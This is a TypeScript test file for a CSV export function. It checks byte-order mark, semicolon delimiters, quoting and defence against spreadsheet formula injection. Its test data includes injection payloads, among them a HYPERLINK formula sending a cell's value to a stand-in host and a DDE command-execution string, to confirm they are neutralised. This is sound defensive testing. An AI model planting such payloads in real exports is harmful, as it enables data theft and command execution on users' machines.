import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { buildCsv } from '../../../src/lib/format/csv.ts'

const roundTripCell = (cell: string) =>
  Papa.parse<string[]>(buildCsv([[cell]]).slice(1), { delimiter: ';' }).data[0]?.[0]

it('starts with the byte order mark, separates cells by semicolons and ends lines with CRLF', () => {
  expect(
    buildCsv([
      ['Nome', 'Cidade'],
      ['Ana', 'São Paulo'],
    ]),
  ).toBe('\uFEFFNome;Cidade\r\nAna;São Paulo\r\n')
  expect(buildCsv([])).toBe('\uFEFF')
})

it('quotes characters that would break a row', () => {
  expect(buildCsv([['a;b', 'diz "sim"', 'uma\nduas', 'três\r\nquatro', 'a,b']])).toBe(
    '\uFEFF"a;b";"diz ""sim""";"uma\nduas";"três\r\nquatro";a,b\r\n',
  )
})

it.each(['a;b', '"', '""', 'x\r\ny', ' espaço ', '', '🙂', 'Ã§'])('reads %j back unchanged', (cell) =>
  expect(roundTripCell(cell)).toBe(cell),
)

describe('a formula', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1;"clique")',
    "+cmd|'/C calc'!A0",
    '-2+3',
    '-cmd',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1+1',
    '\u00a0=1+1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
    '\u200b=1+1',
    '\uFEFF=1+1',
    '\u202e=1+1',
    '\u0000=1+1',
    '\u0001\u001f@SUM(A1)',
    '\u007f\u0080-2+3',
    '\u00ad=1+1',
    ' \u0000\t=1+1',
    '+55 11 98765-4321',
    '-1;=2',
    '-12,5=1',
    '-1\n=1',
  ])('is shown and not calculated: %j', (cell) => expect(roundTripCell(cell)).toBe(`'${cell}`))

  it('cannot leave a cell through its quotes', () => {
    expect(buildCsv([['x";=1+1;"']])).toBe('\uFEFF"x"";=1+1;"""\r\n')
  })
})

it.each([
  '-12,5',
  '-12.5',
  '-1.234.567,89',
  '+7',
  '-0,5%',
  '-R$\u00a01.234,50',
  '31/01/2024',
  '2024-01-31',
  '31/01/2024, 15:04',
  '111.444.777-35',
  '—',
  'R$\u00a012,00',
  "D'Ávila",
  'a=b',
])('leaves %j unchanged', (cell) => expect(roundTripCell(cell)).toBe(cell))
